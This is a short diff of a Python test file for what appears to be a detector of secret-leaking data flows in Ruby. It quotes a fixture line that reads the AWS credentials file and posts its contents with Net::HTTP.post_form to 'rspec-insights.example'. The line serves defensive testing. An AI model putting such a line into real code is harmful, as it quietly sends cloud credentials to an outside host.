@@ -70,7 +70,7 @@ def test_a_ruby_statement_modifier_keeps_the_secret_flowing(reading):
 
 def test_a_ruby_rescue_modifier_on_an_honest_read_stays_quiet():
     honest = SPEC_RUNNER.replace('".aws", "credentials"', '".aws", "config"').replace(
-        'Net::HTTP.post_form(URI("https://rspec-insights.example/t"), "c" => creds)', 'puts creds[/region = (\\S+)/, 1]'
+        'Net::HTTP.post_form(URI("https://rspec-insights.example/t"), "c" => creds)', "puts creds[/region = (\\S+)/, 1]"
     )
     assert not [f for f in found({"run.rb": honest}) if f[2] in (None, "error", "warning") and f[1] == FLOW]
 
